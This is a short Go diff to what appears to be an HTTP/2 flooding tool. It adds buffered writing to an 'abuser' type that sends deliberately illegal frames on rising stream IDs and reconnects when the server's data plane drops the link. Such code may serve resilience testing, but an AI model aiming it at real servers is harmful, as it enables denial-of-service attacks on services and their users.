@@ -1,8 +1,10 @@
 package main
 
 import (
+	"bufio"
 	"bytes"
 	"crypto/tls"
+	"errors"
 	"io"
 	"net"
 	"sync"
@@ -15,6 +17,7 @@ import (
 // opened anew whenever the data plane ends it.
 type h2link struct {
 	conn   net.Conn
+	out    *bufio.Writer // the frames of one abuse go out together
 	framer *http2.Framer
 	next   uint32 // stream
 }
@@ -29,7 +32,8 @@ func (a *abuser) flood(write func(f *http2.Framer, stream uint32) error) {
 		return
 	}
 	link.next += 2
-	if err := write(link.framer, link.next); err != nil || link.next > 1<<30 {
+	if err := errors.Join(write(link.framer, link.next), link.out.Flush()); err != nil ||
+		link.next > 1<<30 {
 		link.conn.Close()
 		link.conn = nil
 	}
@@ -44,9 +48,10 @@ func (l *h2link) open(to string) error {
 		io.Copy(io.Discard, conn)
 		conn.Close()
 	}()
-	l.conn, l.framer, l.next = conn, http2.NewFramer(conn, conn), 1
+	l.conn, l.out, l.next = conn, bufio.NewWriter(conn), 1
+	l.framer = http2.NewFramer(l.out, conn)
 	l.framer.AllowIllegalWrites = true
-	io.WriteString(conn, http2.ClientPreface)
+	l.out.WriteString(http2.ClientPreface)
 	return l.framer.WriteSettings()
 }
 
